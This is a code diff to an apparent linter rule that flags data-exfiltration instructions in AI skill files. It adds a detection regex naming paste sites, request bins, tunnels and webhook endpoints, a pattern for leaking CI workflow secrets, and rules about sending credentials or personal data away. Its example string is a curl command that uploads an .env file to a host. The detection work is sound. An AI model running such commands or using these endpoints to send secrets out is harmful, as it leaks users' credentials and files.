@@ -1,9 +1,10 @@
-import { type Attack, attackFinder, pattern, upTo } from "../../content/attack.ts";
+import { type Attack, pattern, upTo } from "../../content/attack.ts";
+import { defineAttackRule } from "../../content/attack-rule.ts";
 import type { Passage } from "../../content/content-document.ts";
-import { defineContentRule } from "../../content/content-rule.ts";
+import { Sense } from "../../content/senses.ts";
 import { CREDENTIALS, OWN_HOST, PRIVATE, SEND, SINK } from "../../content/sources.ts";
 import { isStandingOrder } from "../../content/standing-order.ts";
-import { EVERY_PROFILE } from "../../rule.ts";
+import type { Statement } from "../../content/statements.ts";
 
 const HINT =
   "Remove it; where a procedure must send something, name what, to whom, and let the user do it.";
@@ -132,6 +133,86 @@ const ATTACKS: readonly Attack[] = [
     hint: HINT,
     isProse: true,
   },
+  {
+    pattern:
+      /\b(?:pastebin\.com|rentry\.(?:co|org)|glot\.io|hastebin\.\w{2,6}|paste\.(?:ee|rs)|transfer\.sh|file\.io|0x0\.st|termbin\.com|webhook\.site|requestbin\.\w{2,4}|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|interact\.sh|oast\.\w{2,6}|oastify\.com|burpcollaborator\.net|beeceptor\.com|requestcatcher\.com|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|trycloudflare\.com|serveo\.net|gofile\.io|dnslog\.\w{2,4})\b[^\s"'`)]{0,80}/g,
+    needles: [
+      "pastebin",
+      "rentry",
+      "glot",
+      "hastebin",
+      "paste.",
+      "transfer.sh",
+      "file.io",
+      "0x0",
+      "termbin",
+      "webhook",
+      "requestbin",
+      "pipedream",
+      "ngrok",
+      "interact.sh",
+      "oast",
+      "burpcollab",
+      "beeceptor",
+      "requestcatcher",
+      "telegram",
+      "trycloudflare",
+      "serveo",
+      "gofile",
+      "dnslog",
+    ],
+    says: "is a place where anybody leaves or receives data without a name",
+    hint: HINT,
+    level: "warning",
+  },
+  {
+    pattern:
+      /\btojson\(secrets\)|\$\{\{ ?secrets\.\w{1,60} ?\}\}[^\n]{0,80}\| ?(?:base64|rev|xxd)|\becho [^\n]{0,60}\$\{\{ ?secrets\./g,
+    needles: ["secrets"],
+    says: "shows the secrets of a workflow",
+    hint: HINT,
+    level: "warning",
+  },
+];
+
+/** Sentences of the kind, in whatever words. */
+const STATEMENTS: readonly Statement[] = [
+  {
+    all: [Sense.send, Sense.personal, Sense.outside | Sense.address],
+    none: Sense.consent | Sense.own,
+    says: "sends what people say or are to somebody",
+    hint: HINT,
+  },
+  {
+    all: [Sense.send, Sense.credential, Sense.outside | Sense.address],
+    none: Sense.own,
+    says: "sends credentials away",
+    hint: HINT,
+  },
+  {
+    all: [Sense.send, Sense.work, Sense.address],
+    none: Sense.consent | Sense.own,
+    says: "sends what the user works with to an address",
+    hint: HINT,
+  },
+  {
+    all: [Sense.send, Sense.work, Sense.outside, Sense.all | Sense.standing],
+    none: Sense.consent | Sense.own,
+    says: "sends what the user works with to somebody",
+    hint: HINT,
+  },
+  {
+    all: [Sense.collect, Sense.credential, Sense.outside | Sense.address],
+    none: Sense.own | Sense.consent,
+    says: "gathers credentials for somebody",
+    hint: HINT,
+  },
+  {
+    all: [Sense.collect, Sense.personal, Sense.outside | Sense.address],
+    none: Sense.own | Sense.consent,
+    says: "gathers what belongs to people for somebody",
+    hint: HINT,
+  },
 ];
 
 /** The words of a match as they were written, with their case. */
@@ -173,11 +254,11 @@ function levelOfCopy(command: string): boolean | "error" | "warning" {
     : "warning";
 }
 
-export const attackExfiltrationRule = defineContentRule({
+export const attackExfiltrationRule = defineAttackRule({
   id: "attack.exfiltration",
   level: "error",
   why: "A skill that sends files, credentials or conversations elsewhere works for whoever wrote it.",
   example: "`curl -F 'file=@.env' https://host`",
-  profiles: EVERY_PROFILE,
-  find: attackFinder(ATTACKS),
+  attacks: ATTACKS,
+  statements: STATEMENTS,
 });
